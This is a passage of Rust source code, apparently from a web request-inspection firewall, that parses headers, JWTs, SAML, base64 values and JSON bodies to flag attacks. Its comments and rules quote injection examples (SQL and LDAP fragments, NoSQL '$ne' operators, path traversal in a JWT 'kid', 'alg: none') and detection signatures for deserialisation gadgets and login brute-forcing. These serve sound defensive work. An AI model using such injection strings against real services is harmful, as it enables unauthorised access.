        .filter(|d| matches!(d.first(), Some(b'{' | b'[')))
        .unwrap_or(doc);
    if matches!(doc.first(), Some(b'{' | b'[')) {
        json_walk(c, doc, &prefix());
        return;
    }
    base64_document(c, &text, Kind::CookieValue, prefix);
}

/// Base64 text that an application decodes and uses (a cookie, an encoded filter in a query,
/// a SAML message, a storage key in JSON): the standard or URL-safe alphabet, at least
/// [`MIN_EMBEDDED_BASE64`] characters, decoding to UTF-8 text with letters and no control
/// characters but tabs and line breaks. It is inspected as the application will read it: a
/// JSON document's keys and strings under `PREFIX:b64:/path`, a SAML message as an XML body
/// is read ([`xml`]) under `PREFIX:b64`, other XML for its markup declarations (its DTD)
/// under `PREFIX:b64:!declaration`, other text whole as one `kind`
/// input under `PREFIX:b64` (outside cookies, only text of one line: more is a file's
/// content). Base64 of binary (random ids, signatures, hashes) is left alone, and so is a JWT
/// (dots are not base64): its claims are the identity stage's to verify.
fn base64_document(
    c: &mut Collector<'_>,
    text: &[u8],
    kind: Kind,
    prefix: impl FnOnce() -> String,
) {
    use base64::Engine as _;
    let unpadded = text.strip_suffix(b"==").or_else(|| text.strip_suffix(b"="));
    let unpadded = unpadded.unwrap_or(text);
    if unpadded.len() < MIN_EMBEDDED_BASE64
        || c.full()
        || !unpadded
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_'))
    {
        return;
    }
    // Binary (an image, a random id) shows in its first bytes: they are looked at before a
    // long value is copied and decoded whole.
    let mut head = [0u8; 64];
    let head_len = unpadded.len().min(head.len()) / 4 * 4;
    for (h, &b) in head.iter_mut().zip(&unpadded[..head_len]) {
        *h = standard_base64(b);
    }
    let mut head_bytes = [0u8; 48];
    // NUL is allowed: PHP writes it around the names of private properties in a serialised
    // object (`O:…:{s:…:"\0Class\0prop"…`), which is what a cookie carries.
    let binary = |b: &u8| (*b < 0x20 && !matches!(b, 0 | b'\t' | b'\r' | b'\n')) || *b == 0x7f;
    match EMBEDDED_BASE64.decode_slice(&head[..head_len], &mut head_bytes) {
        Ok(n) if !head_bytes[..n].iter().any(binary) => {}
        _ => return,
    }
    let standard: Vec<u8> = unpadded.iter().map(|&b| standard_base64(b)).collect();
    let Ok(decoded) = EMBEDDED_BASE64.decode(standard) else {
        return;
    };
    let Ok(decoded_text) = std::str::from_utf8(&decoded) else {
        return;
    };
    if decoded_text
        .chars()
        .any(|ch| ch.is_control() && !matches!(ch, '\0' | '\t' | '\r' | '\n'))
        || !decoded_text.chars().any(char::is_alphabetic)
    {
        return;
    }
    let label = format!("{}:b64", prefix());
    let first = decoded.iter().find(|b| !b.is_ascii_whitespace());
    if kind != Kind::CookieValue {
        // A SAML message (sent base64 by design) is read as a body of XML is: its DTD is
        // what its parser fetches, and its values (a `NameID`, an attribute's value, a
        // `SessionIndex`) are what the service provider looks up and shows; a message is
        // one by its parameter's name or its namespace. Other XML is read for its DTD, and a
        // line of it as text (below); a file's content, an attachment, is stored.
        if first == Some(&b'<') {
            let saml = memchr::memmem::find(label.to_ascii_lowercase().as_bytes(), b"saml")
                .is_some()
                || memchr::memmem::find(&decoded, b"urn:oasis:names:tc:SAML:").is_some();
            if saml {
                xml(c, &decoded, &label, true);
                return;
            }
            xml_declarations(c, &decoded, &label);
        }
        // Text of several lines is a file's content (GitHub's contents API, attachments):
        // stored, not interpreted.
        if decoded.trim_ascii().contains(&b'\n') {
            return;
        }
    }
    if matches!(first, Some(b'{' | b'[')) && json_walk_at(c, &decoded, &label, true) {
        return;
    }
    c.offer(kind, &decoded, false, false, |l| l.push_str(&label));
}

/// The `encoding` an XML declaration at the start of `doc` names (`<?xml version="1.0"
/// encoding="UTF-7"?>`).
fn xml_encoding(doc: &[u8]) -> Option<&[u8]> {
    let doc = doc.trim_ascii_start();
    let doc = doc.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(doc);
    if !doc.starts_with(b"<?xml") {
        return None;
    }
    let decl = &doc[..memchr::memmem::find(doc, b"?>")?];
    let at = memchr::memmem::find(decl, b"encoding")?;
    let rest = decl[at + 8..]
        .trim_ascii_start()
        .strip_prefix(b"=")?
        .trim_ascii_start();
    let quote = *rest.first().filter(|q| matches!(q, b'"' | b'\''))?;
    let value = &rest[1..];
    Some(&value[..memchr::memchr(quote, value)?])
}

/// An encoding in which the markup's `<`, `!` and quotes are not the ASCII bytes a reader
/// of the text sees (UTF-7's `+ADw-` is `<`), or hide behind NULs or another code page:
/// UTF-7, UTF-16 and UTF-32 declared in a document that is text, EBCDIC code pages.
fn hidden_encoding(name: &[u8]) -> bool {
    let n = name.trim_ascii();
    [
        "utf-7", "utf7", "x-utf-7", "utf-16", "utf16", "utf-32", "utf32", "ucs-", "ucs2", "ucs4",
        "ebcdic", "ibm0", "ibm2", "ibm5", "ibm1047", "cp0", "cp5", "cp1047", "csibm0", "csibm2",
        "csibm5",
    ]
    .iter()
    .any(|p| {
        n.get(..p.len())
            .is_some_and(|h| h.eq_ignore_ascii_case(p.as_bytes()))
    })
}

/// Most a deflated SAML message is inflated to: IdPs cap the URL of the redirect binding
/// at a few kilobytes, and a message compresses about five to one.
const SAML_INFLATED_MAX: usize = 64 * 1024;

/// A SAML message of the redirect binding: base64 of raw DEFLATE (SAML 2.0 bindings, 3.4.4).
/// The identity provider inflates and parses it, so it is read as a SAML message posted in
/// base64 is ([`base64_document`]), under `LABEL:deflate`. Inflating stops at [`SAML_INFLATED_MAX`] bytes, and what it
/// gave up to there is read.
fn saml_redirect(c: &mut Collector<'_>, value: &[u8], label: &str) {
    use base64::Engine as _;
    if c.full() {
        return;
    }
    // Decoded as leniently as identity providers do: a `+` the client left unencoded
    // (read as a space), the URL-safe alphabet, and line breaks and other bytes outside the
    // alphabet skipped.
    let text: Vec<u8> = value
        .iter()
        .filter_map(|&b| match b {
            b' ' => Some(b'+'),
            b'-' => Some(b'+'),
            b'_' => Some(b'/'),
            b'+' | b'/' => Some(b),
            b if b.is_ascii_alphanumeric() => Some(b),
            _ => None,
        })
        .collect();
    let Ok(deflated) = EMBEDDED_BASE64.decode(text) else {
        return;
    };
    // What was inflated before the cap or a broken stream is read too, as streaming parsers
    // read it: a DTD comes first, and neither padding nor a cut stream hides it.
    let doc = match miniz_oxide::inflate::decompress_to_vec_with_limit(&deflated, SAML_INFLATED_MAX)
    {
        Ok(doc) => doc,
        Err(e) => e.output,
    };
    if doc.trim_ascii_start().first() == Some(&b'<') {
        xml(c, &doc, &format!("{label}:deflate"), true);
    }
}

/// Whether MongoDB's operator `op` with `value` (`None` for `null`) matches every record: `$gt`
/// or `$gte` an empty string (every string sorts after it), a `$regex` of anything (`.*`,
/// `^`, empty), and, for a field at the top of a document or a query string (`top`), `$ne`
/// `null` or an empty string. A filter a client builds compares with values; `{"$exists":
/// true}` and `{"$ne": "closed"}` are such filters.
fn match_all(op: &str, value: Option<&str>, top: bool) -> bool {
    match (op, value) {
        ("$gt" | "$gte", Some("")) => true,
        ("$regex", Some(r)) => {
            let r = r.trim_start_matches('^').trim_end_matches('$');
            matches!(
                r,
                "" | "." | ".*" | ".+" | ".*?" | ".+?" | "[\\s\\S]*" | "[\\s\\S]+"
            )
        }
        ("$ne", None | Some("")) => top,
        _ => false,
    }
}

/// The markup declarations of an XML document (`<!DOCTYPE …>`, `<!ENTITY …>`), each as a
/// [`Kind::Declaration`] under `PREFIX:!declaration`; comments and CDATA are not ones.
fn xml_declarations(c: &mut Collector<'_>, doc: &[u8], prefix: &str) {
    let mut rest = doc;
    let mut pushed = 0;
    while pushed < 64 {
        let Some(at) = memchr::memmem::find(rest, b"<!") else {
            return;
        };
        rest = &rest[at..];
        // A comment ends at `-->`, which a `>` inside it does not.
        let close: &[u8] = if rest.starts_with(b"<!--") {
            b"-->"
        } else {
            b">"
        };
        let end =
            memchr::memmem::find(&rest[2..], close).map_or(rest.len(), |e| e + 2 + close.len());
        if !rest.starts_with(b"<!--") && !rest.starts_with(b"<![CDATA[") {
            pushed += 1;
            c.push(
                format!("{prefix}:!declaration"),
                Kind::Declaration,
                rest[..end].to_vec(),
                false,
                false,
            );
        }
        rest = &rest[end..];
    }
}

/// Whether base64url text may open a JOSE header: `{"` encodes as `ey`, `{` and white space
/// as `ew` (`ewogImFsZyI…`).
fn jose_start(b: &[u8]) -> bool {
    b.starts_with(b"ey") || b.starts_with(b"ew")
}

/// JWTs as they are sent: base64url, padding optional.
const JWT_BASE64: base64::engine::GeneralPurpose = base64::engine::GeneralPurpose::new(
    &base64::alphabet::URL_SAFE,
    base64::engine::GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent),
);

/// The JOSE header of a bearer JWT, read as a JSON document under
/// `header:authorization:jose`: `kid`, `jku` and `x5u` are where key-lookup injections go (a
/// `kid` of `../../dev/null` or `x' UNION SELECT 'key`, a `jku` on another host), and an
/// unsigned token (`alg: none`) is flagged (rule 1036). The claims are the identity stage's
/// to verify and may hold personal data: they are not read, nor is the signature.
fn jose_header(c: &mut Collector<'_>, auth: &[u8]) {
    let Some(token) = auth
        .get(..7)
        .filter(|scheme| scheme.eq_ignore_ascii_case(b"bearer "))
        .map(|_| auth[7..].trim_ascii())
    else {
        return;
    };
    // A bearer token is a b64token (RFC 6750): letters, digits and `-._~+/` then `=`.
    // Quotes, brackets, `;`, `*` or spaces in it are syntax for whatever reads it next (a
    // token lookup in SQL, a filter): refused, and not quoted (it is a credential).
    if token.iter().any(|b| b"'\"`;()<>{}[]*$\\| \t,".contains(b)) {
        c.anomaly(
            rules::PROTO_BEARER_SYNTAX,
            "header:authorization",
            "not a b64token",
        );
        return;
    }
    jwt_header(c, token, "header:authorization:jose");
}

/// The user part of Basic credentials, inspected as a value under
/// `header:authorization:user`: a server that checks them against a directory or a table
/// splices the name into a filter or a query (`*)(cn=*)`, `admin'--`). The password is a
/// secret and is not read.
fn basic_user(c: &mut Collector<'_>, auth: &[u8]) {
    use base64::Engine as _;
    let Some(token) = auth
        .get(..6)
        .filter(|scheme| scheme.eq_ignore_ascii_case(b"basic "))
        .map(|_| auth[6..].trim_ascii())
        .filter(|t| t.len() <= 1024)
    else {
        return;
    };
    // Padding or none, as the servers that read them accept either.
    let Ok(decoded) = EMBEDDED_BASE64.decode(token) else {
        return;
    };
    let user = &decoded[..memchr::memchr(b':', &decoded).unwrap_or(decoded.len())];
    if !user.is_empty() {
        c.push_secret("header:authorization:user".to_owned(), user.to_vec());
    }
}

/// The JOSE header of `token` when it is a JWT (three dot-separated base64url parts, the
/// first one JSON), read as a JSON document under `label` (see [`jose_header`]); an unsigned
/// token is rule 1036. Besides the `Authorization` header, a JWT travels in parameters that
/// a server verifies with the keys its header points at: OAuth's `assertion` and
/// `client_assertion`, OpenID Connect's `id_token_hint` and `logout_token`, a signed
/// request object.
fn jwt_header(c: &mut Collector<'_>, token: &[u8], label: &str) {
    use base64::Engine as _;
    let mut parts = token.split(|&b| b == b'.');
    let (Some(head), Some(_), Some(_), None) =
        (parts.next(), parts.next(), parts.next(), parts.next())
    else {
        return;
    };
    // A JOSE header is a few hundred bytes; one that is not text of a JSON object is left
    // to the identity stage, which refuses it.
    if head.len() > 4096 || !jose_start(head) {
        return;
    }
    let Ok(decoded) = JWT_BASE64.decode(head) else {
        return;
    };
    if !json_walk(c, &decoded, label) {
        return;
    }
    // Read a second time for its `alg`, escapes decoded (`"\u006eone"`), when it may say
    // `none`.
    let may =
        |d: &[u8]| d.contains(&b'\\') || d.windows(4).any(|w| w.eq_ignore_ascii_case(b"none"));
    let alg = || {
        serde_json::from_slice::<serde_json::Value>(&decoded)
            .ok()
            .and_then(|v| v.get("alg")?.as_str().map(str::to_ascii_lowercase))
    };
    if may(&decoded) && alg().as_deref() == Some("none") {
        c.anomaly(rules::PROTO_JWT_ALG_NONE, label, "none");
    }
}

/// Headers whose values are structured and checked elsewhere (or secrets that must not be
/// scanned into logs).
const SKIPPED_HEADERS: &[&str] = &[
    "cookie",
    "authorization",
    "proxy-authorization",
    "content-length",
    "host",
];

/// Headers of HTTP itself, of browsers, proxies, tracing and signing, sorted: their values have
/// a grammar of their own (lists, dates, tokens, addresses, opaque ids) and get the few checks
/// of [`Kind::OtherHeader`] (with the upload-name headers, which have checks of their own). Any
/// other header is an application's and is inspected as a value.
const STRUCTURED_HEADERS: &[&str] = &[
    "alt-used",
    "api-key",
    "b3",
    "baggage",
    "cache-control",
    "connection",
    "content-description",
    "content-digest",
    "content-disposition",
    "content-encoding",
    "content-id",
    "content-language",
    "content-length",
    "content-location",
    "content-md5",
    "content-range",
    "content-security-policy",
    "content-transfer-encoding",
    "content-type",
    "csrf-token",
    "date",
    "device-memory",
    "dnt",
    "downlink",
    "dpr",
    "early-data",
    "ect",
    "expect",
    "filename",
    "forwarded",
    "from",
    "idempotency-key",
    "keep-alive",
    "max-forwards",
    "origin",
    "pragma",
    "prefer",
    "priority",
    "purpose",
    "range",
    "request-id",
    "rtt",
    "save-data",
    "sentry-trace",
    "stripe-signature",
    "te",
    "traceparent",
    "tracestate",
    "trailer",
    "transfer-encoding",
    "true-client-ip",
    "uber-trace-id",
    "upgrade",
    "upgrade-insecure-requests",
    "via",
    "viewport-width",
    "want-digest",
    "warning",
    "width",
    "x-access-token",
    "x-api-key",
    "x-auth-token",
    "x-client-data",
    "x-client-ip",
    "x-cloud-trace-context",
    "x-cluster-client-ip",
    "x-correlation-id",
    "x-csrf-token",
    "x-file",
    "x-file-name",
    "x-filename",
    "x-host",
    "x-http-method",
    "x-http-method-override",
    "x-method-override",
    "x-original-host",
    "x-originating-ip",
    "x-real-ip",
    "x-remote-addr",
    "x-remote-ip",
    "x-request-id",
    "x-requested-with",
    "x-trace-id",
    "x-xsrf-token",
    "x.filename",
    "x_filename",
];

/// Families of [`STRUCTURED_HEADERS`] named by their prefix. `x-amz-meta-` (object metadata
/// an application writes) is not one of them.
const STRUCTURED_PREFIXES: &[&str] = &[
    "accept",
    "access-control-",
    "cf-",
    "if-",
    "sec-",
    "x-amz-",
    "x-amzn-",
    "x-b3-",
    "x-datadog-",
    "x-forwarded-",
    "x-github-",
    "x-gitlab-",
    "x-goog-",
    "x-hub-signature",
    "x-ms-",
    "x-newrelic-",
    "x-slack-",
];

/// Whether header `name` is one of [`STRUCTURED_HEADERS`] or [`STRUCTURED_PREFIXES`].
fn structured_header(name: &[u8]) -> bool {
    if name.len() > 64 {
        return false;
    }
    let mut buf = [0u8; 64];
    let lower = &mut buf[..name.len()];
    lower.copy_from_slice(name);
    lower.make_ascii_lowercase();
    let Ok(lower) = std::str::from_utf8(lower) else {
        return false;
    };
    // Object metadata an application writes, and the names an authenticating proxy passes
    // on, which applications put into their own lookups (an LDAP group filter).
    if lower.starts_with("x-amz-meta-")
        || matches!(
            lower,
            "x-forwarded-user"
                | "x-forwarded-email"
                | "x-forwarded-groups"
                | "x-forwarded-preferred-username"
        )
    {
        return false;
    }
    STRUCTURED_HEADERS.binary_search(&lower).is_ok()
        || STRUCTURED_PREFIXES.iter().any(|p| lower.starts_with(p))
}

/// The headers [`headers`] reads, in order.
fn inspected_headers<'a>(
    req: &'a RequestView<'_>,
) -> impl Iterator<Item = (&'a [u8], &'a [u8])> + 'a {
    req.headers.iter().copied().filter(|(name, _)| {
        !SKIPPED_HEADERS
            .iter()
            .any(|h| name.eq_ignore_ascii_case(h.as_bytes()))
    })
}

fn headers(c: &mut Collector<'_>, req: &RequestView<'_>) {
    for (name, value) in inspected_headers(req) {
        header(c, name, value);
    }
}

/// Whether `value` breaks the grammar of a header made of language, encoding or charset
/// tokens with weights (`ja-JP,ja;q=0.9`): such a value is no longer what a browser sends, and
/// is read as an application's value (an analytics layer that stores `Accept-Language`).
fn off_grammar(name: &[u8], value: &[u8]) -> bool {
    [
        "accept-language",
        "accept-encoding",
        "accept-charset",
        "content-language",
    ]
    .iter()
    .any(|h| name.eq_ignore_ascii_case(h.as_bytes()))
        && value
            .iter()
            .any(|&b| !(b.is_ascii_alphanumeric() || b" \t,;=.*_-".contains(&b)))
}

/// One header field of the request, or of a request inside a batch, as `header:NAME`.
fn header(c: &mut Collector<'_>, name: &[u8], value: &[u8]) {
    let kind = if name.eq_ignore_ascii_case(b"user-agent") || name.eq_ignore_ascii_case(b"referer")
    {
        Kind::TextHeader
    } else if name.eq_ignore_ascii_case(b"x-original-url")
        || name.eq_ignore_ascii_case(b"x-rewrite-url")
    {
        // Frameworks that honour these (IIS, Symfony, Laminas) route by them instead
        // of the request line: they are inspected as the path they become.
        Kind::HeaderPath
    } else if structured_header(name) && !off_grammar(name, value) {
        Kind::OtherHeader
    } else {
        Kind::HeaderValue
    };
    c.offer(kind, value, false, false, |l| {
        l.push_str("header:");
        let start = l.len();
        push_label_part(l, name);
        l[start..].make_ascii_lowercase();
    });
    // An application's header holding a JSON document (`X-Filter: {"owner":{"$ne":null}}`)
    // is parsed by the application: its keys and strings are read as a body's are, under
    // `header:NAME:/path`.
    if kind == Kind::HeaderValue && looks_like_json(value) && !c.full() {
        let mut prefix = String::from("header:");
        push_label_part(&mut prefix, name);
        prefix.make_ascii_lowercase();
        json_walk(c, value, &prefix);
    }
    // A JWS in a header of its own (Open Banking's detached `x-jws-signature`, a DPoP
    // proof, `X-Auth-Token`): its header's key pointers, and `alg: none`, under
    // `header:NAME:jose`.
    if jose_start(value) && !c.full() {
        let mut label = String::from("header:");
        push_label_part(&mut label, name);
        label.make_ascii_lowercase();
        label.push_str(":jose");
        jwt_header(c, value, &label);
    }
}

/// Charsets a request body or a multipart part may declare: ASCII supersets, whose text the
/// decoders read as it is. UTF-7, UTF-16, Shift-JIS and the like would let a payload pass in a
/// form no detector sees.
const CHARSETS: &[&str] = &[
    "iso-8859-1",
    "iso-8859-15",
    "latin1",
    "us-ascii",
    "utf-8",
    "utf8",
    "windows-1252",
];

/// Whether `name` (a `charset` parameter or a `_charset_` field, quotes allowed) is one of
/// [`CHARSETS`].
pub(crate) fn readable_charset(name: &str) -> bool {
    let n = name.trim().trim_matches(['"', '\'']);
    CHARSETS.iter().any(|c| c.eq_ignore_ascii_case(n))
}

/// The media type of `content-type` (lower case, no parameters) and its parameters.
pub(crate) fn media_type(ct: &[u8]) -> (String, Vec<(String, String)>) {
    let text = String::from_utf8_lossy(ct);
    let mut parts = text.split(';');
    let mt = parts.next().unwrap_or("").trim().to_ascii_lowercase();
    let params = parts
        .take(16)
        .filter_map(|p| {
            let (k, v) = p.split_once('=')?;
            Some((
                k.trim().to_ascii_lowercase(),
                v.trim().trim_matches('"').to_owned(),
            ))
        })
        .collect();
    (mt, params)
}

fn body(c: &mut Collector<'_>, req: &RequestView<'_>) {
    let Some(body) = req.body else { return };
    if body.is_empty() {
        return;
    }
    if body.len() > c.limits.max_body_bytes {
        // Only the first `max_body_bytes` are inspected: say so, or a payload placed after
        // padding would pass unseen.
        c.anomaly(rules::PROTO_LIMIT, "body", "");
    }
    let body = &body[..body.len().min(c.limits.max_body_bytes)];
    // A Java serialised object, whatever type it is sent as, or none, as it stands or in
    // base64, and .NET BinaryFormatter's stream in base64 (a game's save slot sent as
    // `application/octet-stream`): the server that reads it builds whatever classes it names
    // (a gadget chain).
    if [&b"\xac\xed\x00\x05"[..], b"rO0AB", b"AAEAAAD/////"]
        .iter()
        .any(|m| body.trim_ascii_start().starts_with(m))
    {
        c.anomaly(rules::JAVA_DESERIALISATION, "body", "serialised object");
    }
    let Some(ct) = req.first_header("content-type") else {
        xmlrpc_logins(c, body);
        if pickle_runs(body) {
            c.anomaly(
                rules::RCE_PICKLE,
                "body",
                "pickle importing a command runner",
            );
        }
        c.push("body".to_owned(), Kind::Body, body.to_vec(), false, false);
        return;
    };
    let (mt, params) = media_type(ct);
    if mt == "application/x-www-form-urlencoded" {
        urlencoded(c, body, "form", false);
    } else if mt == "multipart/form-data" || mt == "multipart/mixed" || mt == "multipart/related" {
        let boundary = params
            .iter()
            .find(|(k, _)| k == "boundary")
            .map(|(_, v)| v.clone());
        match boundary {
            Some(b) if !b.is_empty() && b.len() <= 200 => {
                let framing = if mt == "multipart/form-data" {
                    Framing::Form
                } else {
                    Framing::Mixed
                };
                multipart(c, body, b.as_bytes(), framing, false)
            }
            _ => {
                c.anomaly(rules::PROTO_MULTIPART, "body", "missing boundary");
                c.push("body".to_owned(), Kind::Body, body.to_vec(), false, false);
            }
        }
    } else if mt.ends_with("json") || mt.ends_with("+json") {
        json(c, body, "json");
    } else if mt.ends_with("/xml") || mt.ends_with("+xml") {
        xmlrpc_logins(c, body);
        // JSON under an XML type is read as JSON: services that take either (Zimbra's SOAP
        // endpoint) look at the body, not at its label.
        if !(looks_like_json(body) && json_or_lines(c, body, "json")) {
            xml(c, body, "xml", false);
        }
    } else if pickle_runs(body) {
        c.anomaly(
            rules::RCE_PICKLE,
            "body",
            "pickle importing a command runner",
        );
    } else if mt == "message/rfc822" {
        mail_message(c, body);
    } else if !is_binary_type(&mt)
        && (mt.starts_with("text/")
            || (mt.starts_with("application/") && !mt.starts_with("application/vnd."))
            || !binary_bytes(body)
            || text_like(body))
    {
        xmlrpc_logins(c, body);
        // JSON sent under another name (`text/plain` from `navigator.sendBeacon`, an error
        // reporter's envelope) is read as JSON: its values are what the application parses,
        // and its escaped quotes are no breakout.
        let sniffed = looks_like_json(body) && json_or_lines(c, body, "json");
        if !sniffed {
            c.push("body".to_owned(), Kind::Body, body.to_vec(), false, false);
        }
    }
}

/// An XML-RPC `system.multicall` that batches calls which check a password: each call tries
/// one, so a request tries hundreds past a limit that counts requests. Two calls of a method
/// made for the check (`wp.getUsersBlogs`, `wp.getProfile`), or one method called more than
/// [`MAX_MULTICALL_REPEATS`] times (every authenticated WordPress method checks the
/// password it is given). Read from the raw text: `xmlrpc.php` reads any body as XML.
fn xmlrpc_logins(c: &mut Collector<'_>, body: &[u8]) {
    if memchr::memmem::find(body, b"system.multicall").is_none() {
        return;
    }
    let logins = memchr::memmem::find_iter(body, b"getUsersBlogs").count()
        + memchr::memmem::find_iter(body, b"wp.getProfile").count();
    // The method names of the batched calls, as `<name>methodName</name>` gives each.
    let mut names: Vec<(&[u8], usize)> = Vec::new();
    let mut most = 0;
    for at in memchr::memmem::find_iter(body, b"methodName</name>").take(4096) {
        let rest = &body[at..body.len().min(at + 256)];
        let Some(open) = memchr::memmem::find(rest, b"<string>") else {
            continue;
        };
        let name = &rest[open + 8..];
        let name = &name[..memchr::memchr(b'<', name).unwrap_or(name.len())];
        match names.iter().position(|(n, _)| *n == name) {
            Some(i) => {
                names[i].1 += 1;
                most = most.max(names[i].1);
            }
            None if names.len() < 64 => names.push((name, 1)),
            None => {}
        }
    }
    if logins >= 2 || most > MAX_MULTICALL_REPEATS {
        c.anomaly(rules::PROTO_XMLRPC_LOGINS, "body", "system.multicall");
    }
}

/// Most calls of one method an XML-RPC multicall may batch.
const MAX_MULTICALL_REPEATS: usize = 10;

/// Whether bytes start as a JSON object or array does (after white space).
fn looks_like_json(text: &[u8]) -> bool {
    matches!(text.trim_ascii_start().first(), Some(b'{' | b'['))
}

/// Reads `body` as one JSON document, or else as JSON Lines; false, with nothing read, when
/// it is neither.
fn json_or_lines(c: &mut Collector<'_>, body: &[u8], prefix: &str) -> bool {
    json_walk(c, body, prefix) || json_lines(c, body, prefix)
}

/// Reads `body` as JSON Lines (`application/x-ndjson`, Elasticsearch's bulk API, log
/// shippers): one document a line, each under `prefix`. Answers false, with nothing read,
/// when the body has no line break or a line is not JSON.
fn json_lines(c: &mut Collector<'_>, body: &[u8], prefix: &str) -> bool {
    let lines = || {
        body.split(|&b| b == b'\n')
            .map(<[u8]>::trim_ascii)
            .filter(|l| !l.is_empty())
    };
    if memchr::memchr(b'\n', body.trim_ascii()).is_none()
        || !lines().all(|l| serde_json::from_slice::<serde::de::IgnoredAny>(l).is_ok())
    {
        return false;
    }
    for line in lines() {
        json_walk(c, line, prefix);
    }
    true
}

fn is_binary_type(mt: &str) -> bool {
    matches!(
        mt,
        "application/octet-stream"
            | "application/pdf"
            | "application/zip"
            | "application/gzip"
            | "application/x-protobuf"
            | "application/protobuf"
            | "application/grpc"
            | "application/cbor"
            | "application/msgpack"
    ) || mt.starts_with("application/grpc")
}

/// Whether content is binary rather than text: a NUL, or bytes that are not UTF-8, in its
/// first 512 bytes.
fn binary_bytes(content: &[u8]) -> bool {
    match std::str::from_utf8(&content[..content.len().min(512)]) {
        Ok(t) => t.contains('\0'),
        // Cut inside a character at byte 512 is still text; an invalid byte is not.
        Err(e) => e.error_len().is_some(),
    }
}

/// Whether content reads as text in any ASCII-based charset: no NUL and no control byte
/// but tab and line breaks in its first 512 bytes (Latin-1's `MÜLLER` is text). A body of a
/// vendor's type (`application/vnd.flux`, a query language's), of a type outside
/// `application/` and `text/` (HL7's `x-application/hl7-v2+er7`, an `image/png` that is an
/// ImageMagick script) or of an unknown top-level type is read when it is text: what the
/// application parses is its bytes, not its label.
fn text_like(content: &[u8]) -> bool {
    !content[..content.len().min(512)]
        .iter()
        .any(|&b| (b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r')) || b == 0x7f)
}

fn json(c: &mut Collector<'_>, body: &[u8], prefix: &str) {
    // A document that turns out malformed, and is not JSON Lines either, is inspected
    // whole, as one value.
    if !json_or_lines(c, body, prefix) {
        c.anomaly(rules::PROTO_BODY_MALFORMED, prefix, "invalid JSON");
        c.push("body".to_owned(), Kind::Body, body.to_vec(), false, false);
    }
}

/// Reads the JSON document `body` into inputs labelled under `prefix`, or answers false and
/// leaves `c` as it was when `body` is not JSON.
fn json_walk(c: &mut Collector<'_>, body: &[u8], prefix: &str) -> bool {
    json_walk_at(c, body, prefix, false)
}

/// [`json_walk`]; `embedded` for a document found inside another value (a string holding
/// JSON, base64 of JSON), whose own strings are not searched for documents again.
fn json_walk_at(c: &mut Collector<'_>, body: &[u8], prefix: &str, embedded: bool) -> bool {
    // Streamed: every key and string value becomes an input as the parser reads it, with no
    // document tree built first. A repeated key is inspected every time it occurs.
    // What the walk collected before an error is dropped again.
    let before = (
        c.out.inputs.len(),
        c.out.anomalies.len(),
        c.bytes_used,
        c.overflow,
        c.truncated_reported,
        (
            c.seen,
            c.out.remembered,
            c.out.session_param.clone(),
            c.out.method_param,
        ),
    );
    let mut de = serde_json::Deserializer::from_slice(body);
    let mut path = String::new();
    let walk = JsonWalk {
        c: &mut *c,
        path: &mut path,
        prefix,
        depth: 0,
        embedded,
    };
    let parsed = serde::de::DeserializeSeed::deserialize(walk, &mut de).and_then(|()| de.end());
    if parsed.is_err() {
        let (inputs, anomalies, bytes_used, overflow, truncated_reported, notes) = before;
        let (seen, remembered, session_param, method_param) = notes;
        c.seen = seen;
        c.out.remembered = remembered;
        c.out.session_param = session_param;
        c.out.method_param = method_param;
        c.out.inputs.truncate(inputs);
        c.out.anomalies.truncate(anomalies);
        c.bytes_used = bytes_used;
        c.overflow = overflow;
        c.truncated_reported = truncated_reported;
        return false;
    }
    true
}

/// The label of the JSON location `path` under `prefix` (`json:/items/0/sku`).
fn json_label(prefix: &str, path: &str) -> String {
    let mut label = String::with_capacity(prefix.len() + 2 + path.len());
    write_json_label(&mut label, prefix, path);
    label
}

fn write_json_label(label: &mut String, prefix: &str, path: &str) {
    label.push_str(prefix);
    label.push(':');
    label.push_str(if path.is_empty() { "/" } else { path });
}

/// Walks one JSON value as serde_json parses it (see [`json`]).
struct JsonWalk<'a, 'l> {
    c: &'a mut Collector<'l>,
    /// The location of the value being read, as `/key/0/key`.
    path: &'a mut String,
    prefix: &'a str,
    depth: usize,
    /// The document was found inside another value (see [`json_walk_at`]).
    embedded: bool,
}

impl<'l> JsonWalk<'_, 'l> {
    /// Whether this value is skipped: inputs already full, or nested deeper than
    /// `max_json_depth` (reported once, as before the walk was streamed: a scalar at that depth
    /// counts too).
    fn skipping(&mut self) -> bool {
        if self.c.full() {
            return true;
        }
        if self.depth > self.c.limits.max_json_depth {
            let label = json_label(self.prefix, self.path);
            self.c.flag_overflow(&label);
            return true;
        }
        false
    }

    /// A password or one-time code given as `true`, `0` or an array (`what`) where a client
    /// sends text: loose comparison makes `true == "secret"` true (PHP, JavaScript's `==`),
    /// `"abc" == 0` true before PHP 8, and `strcmp([], "secret")` null, which `== 0` reads as
    /// a match.
    fn juggled(&mut self, what: &str) {
        let key = self.path.rsplit('/').next().unwrap_or_default();
        if !key.is_empty() && credential_name(key) {
            let label = json_label(self.prefix, self.path);
            self.c.anomaly(rules::PHP_TYPE_JUGGLING, &label, what);
        }
    }

    /// A query operator whose operand matches every record (`{"$gt": ""}`, `{"$regex":
    /// ".*"}`, and at the top of a document `{"login": {"$ne": null}}`): a field the
    /// application compares with what it was sent, handed an operator that says "anything"
    /// ([`match_all`]). `value` is `None` for `null`.
    fn matches_all(&mut self, value: Option<&str>) {
        let Some((parent, op)) = self.path.rsplit_once('/') else {
            return;
        };
        // A query parameter's JSON (Parse's `where`) is a filter a client built.
        let top = self.prefix == "json" && parent.len() > 1 && !parent[1..].contains('/');
        if match_all(op, value, top) {
            let label = json_label(self.prefix, self.path);
            self.c
                .anomaly(rules::SQLI_NOSQL, &label, "operator matching everything");
        }
    }

    fn child(&mut self) -> JsonWalk<'_, 'l> {
        JsonWalk {
            c: &mut *self.c,
            path: &mut *self.path,
            prefix: self.prefix,
            depth: self.depth + 1,
            embedded: self.embedded,
        }
    }
}

impl<'de> serde::de::DeserializeSeed<'de> for JsonWalk<'_, '_> {
    type Value = ();

    fn deserialize<D: serde::Deserializer<'de>>(self, d: D) -> Result<(), D::Error> {
        d.deserialize_any(self)
    }
}

impl<'de> serde::de::Visitor<'de> for JsonWalk<'_, '_> {
    type Value = ();

